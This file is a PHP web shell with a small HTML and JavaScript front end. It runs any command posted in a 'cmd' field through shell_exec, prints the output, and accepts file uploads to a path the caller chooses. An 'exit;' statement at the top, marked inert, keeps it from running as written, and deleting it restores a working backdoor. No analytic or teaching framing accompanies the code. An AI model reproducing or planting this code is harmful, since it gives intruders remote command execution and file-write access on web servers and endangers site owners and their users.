<?php exit; /* inert */ if (ISSET($_POST['cmd'])) {
    $output = preg_split('/[\n]/', shell_exec($_POST['cmd'] . " 2>&1"));
    foreach ($output as $line) {
        echo htmlentities($line, ENT_QUOTES | ENT_HTML5, 'UTF-8') . "<br>";
    }
    die();
} else if (!empty($_FILES['file']['tmp_name']) && !empty($_POST['path'])) {
    $filename = $_FILES["file"]["name"];
    $path = $_POST['path'];
    if ($path != "/") { $path .= "/"; }
    if (move_uploaded_file($_FILES["file"]["tmp_name"], $path . $filename)) {
        echo htmlentities($filename) . " successfully uploaded";
    }
    die();
}
?>
<html><body><div id="output"></div><input id="input" onkeydown="sendCommand()">
<script>function sendCommand(){var r=new XMLHttpRequest();r.open("POST","",true);r.send("cmd="+input.value);}</script></body></html>
